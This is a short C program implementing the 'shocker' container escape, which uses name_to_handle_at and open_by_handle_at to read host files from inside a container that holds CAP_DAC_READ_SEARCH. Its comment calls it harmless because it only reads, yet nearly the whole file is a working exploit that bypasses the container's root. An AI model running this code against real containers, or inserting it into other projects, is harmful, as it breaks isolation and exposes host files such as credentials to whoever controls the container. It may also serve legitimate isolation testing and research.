/* open_by_handle_at ("shocker"): a file handle names a file by inode, bypassing the path
 * walk and so the box's root. "export PATH" prints PATH's handle (run on the host);
 * "import DIR TYPE HEX" opens that handle relative to the filesystem of DIR and prints what
 * it reads. Needs CAP_DAC_READ_SEARCH. Harmless: reads only. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
    unsigned char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    struct file_handle *fh = (struct file_handle *)space;
    if (argc == 3 && !strcmp(argv[1], "export")) {
        int mount_id;
        fh->handle_bytes = MAX_HANDLE_SZ;
        if (name_to_handle_at(AT_FDCWD, argv[2], fh, &mount_id, 0) < 0) { perror("export"); return 1; }
        printf("%d ", fh->handle_type);
        for (unsigned i = 0; i < fh->handle_bytes; i++) printf("%02x", fh->f_handle[i]);
        printf("\n");
        return 0;
    }
    if (argc != 5 || strcmp(argv[1], "import")) { fprintf(stderr, "usage\n"); return 2; }
    int mfd = open(argv[2], O_RDONLY | O_DIRECTORY);
    fh->handle_type = atoi(argv[3]);
    fh->handle_bytes = strlen(argv[4]) / 2;
    for (unsigned i = 0; i < fh->handle_bytes; i++) sscanf(argv[4] + 2 * i, "%2hhx", &fh->f_handle[i]);
    int fd = open_by_handle_at(mfd, fh, O_RDONLY);
    if (fd < 0) { perror("open_by_handle_at"); return 1; }
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    printf("READ %s\n", buf);
    return 0;
}
